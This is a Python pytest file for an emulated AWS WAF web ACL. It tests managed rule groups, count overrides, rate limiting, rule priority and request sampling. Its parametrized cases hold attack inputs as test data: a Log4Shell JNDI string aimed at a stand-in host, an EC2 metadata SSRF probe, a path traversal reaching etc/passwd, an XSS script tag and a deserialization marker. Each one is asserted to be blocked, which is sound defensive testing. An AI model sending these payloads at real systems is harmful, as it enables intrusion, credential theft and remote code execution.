"""A deployed web ACL, evaluated."""

import pytest

from localcloud.gateway.firewall import Firewall, WebRequest, Window

COMMON, BAD_INPUTS = "AWSManagedRulesCommonRuleSet", "AWSManagedRulesKnownBadInputsRuleSet"


def request(**changed):
    fields = {
        "method": "GET",
        "path": "/prod/items",
        "query": "",
        "headers": {"user-agent": "partner/1.0"},
        "body": b"",
        "source_ip": "192.0.2.1",
    }
    return WebRequest(**(fields | changed))


def managed(name, priority=1, **statement):
    return {
        "Name": name,
        "Priority": priority,
        "OverrideAction": {"None": {}},
        "Statement": {
            "ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": name, **statement}
        },
    }


def rate(limit, priority=0, action="Block"):
    return {
        "Name": "Rate",
        "Priority": priority,
        "Action": {action: {}},
        "Statement": {"RateBasedStatement": {"Limit": limit, "AggregateKeyType": "IP"}},
    }


def web_acl(*rules, default="Allow"):
    return Firewall({"Name": "acl", "DefaultAction": {default: {}}, "Rules": list(rules)})


def test_a_plain_request_passes_every_group():
    firewall = web_acl(managed(COMMON), managed(BAD_INPUTS, 2))

    assert firewall.judge(request()).action == "ALLOW"


@pytest.mark.parametrize(
    ("changed", "rule"),
    [
        ({"headers": {}}, "NoUserAgent_HEADER"),
        ({"headers": {"user-agent": "sqlmap/1.8"}}, "UserAgent_BadBots_HEADER"),
        ({"query": "a=" + "x" * 2048}, "SizeRestrictions_QUERYSTRING"),
        ({"body": b"x" * 8193}, "SizeRestrictions_BODY"),
        ({"path": "/" + "x" * 1024}, "SizeRestrictions_URIPATH"),
        ({"query": "u=http://169.254.169.254/latest"}, "EC2MetaDataSSRF_QUERYARGUMENTS"),
        ({"query": "f=..%2F..%2Fetc%2Fpasswd"}, "GenericLFI_QUERYARGUMENTS"),
        ({"body": b'{"a": "<script>alert(1)</script>"}'}, "CrossSiteScripting_BODY"),
        ({"path": "/prod/app.log"}, "RestrictedExtensions_URIPATH"),
    ],
)
def test_the_common_rules_block_what_they_are_named_for(changed, rule):
    verdict = web_acl(managed(COMMON)).judge(request(**changed))

    assert (verdict.action, verdict.rule) == ("BLOCK", f"{COMMON}:{rule}")


@pytest.mark.parametrize(
    ("changed", "rule"),
    [
        ({"headers": {"x-any": "${jndi:ldap://a.example/x}"}}, "Log4JRCE_HEADER"),
        ({"body": b"java.lang.Runtime"}, "JavaDeserializationRCE_BODY"),
        ({"method": "PROPFIND"}, "PROPFIND_METHOD"),
        ({"path": "/prod/.git/config"}, "ExploitablePaths_URIPATH"),
    ],
)
def test_known_bad_inputs_are_blocked(changed, rule):
    verdict = web_acl(managed(BAD_INPUTS)).judge(request(**changed))

    assert (verdict.action, verdict.rule) == ("BLOCK", f"{BAD_INPUTS}:{rule}")


def test_a_rule_overridden_to_count_lets_the_request_go_on_and_is_counted():
    override = {"Name": "SizeRestrictions_BODY", "ActionToUse": {"Count": {}}}
    firewall = web_acl(managed(COMMON, RuleActionOverrides=[override]))

    verdict = firewall.judge(request(body=b"x" * 9000))

    assert verdict.action == "ALLOW"
    counted = {"rule": f"{COMMON}:SizeRestrictions_BODY", "action": "COUNT", "count": 1}
    assert firewall.report()["counts"] == [counted]


def test_a_client_beyond_the_rate_is_blocked_and_another_is_not():
    firewall = web_acl(rate(2))
    actions = [firewall.judge(request()).action for _ in range(3)]

    assert actions == ["ALLOW", "ALLOW", "BLOCK"]
    assert firewall.judge(request(source_ip="192.0.2.2")).action == "ALLOW"


def test_requests_older_than_the_window_no_longer_count():
    window = Window(300)

    assert [window.add(0), window.add(299), window.add(301)] == [1, 2, 2]


def test_a_web_acl_read_again_goes_on_counting():
    first, again = web_acl(rate(1)), web_acl(rate(1))
    first.judge(request())

    again.keep_counts_of(first)

    assert again.judge(request()).action == "BLOCK"


def test_rules_are_read_in_the_order_of_their_priority():
    firewall = web_acl(managed(COMMON, priority=5), rate(0, priority=1))

    assert firewall.judge(request(headers={})).rule == "Rate"


def test_a_blocked_request_is_sampled():
    firewall = web_acl(managed(COMMON))
    firewall.judge(request(headers={}))

    sample = firewall.report()["samples"][0]

    assert (sample["action"], sample["path"], sample["source_ip"]) == (
        "BLOCK",
        "/prod/items",
        "192.0.2.1",
    )


def test_what_no_rule_matches_gets_the_default_action():
    assert web_acl(default="Block").judge(request()).action == "BLOCK"
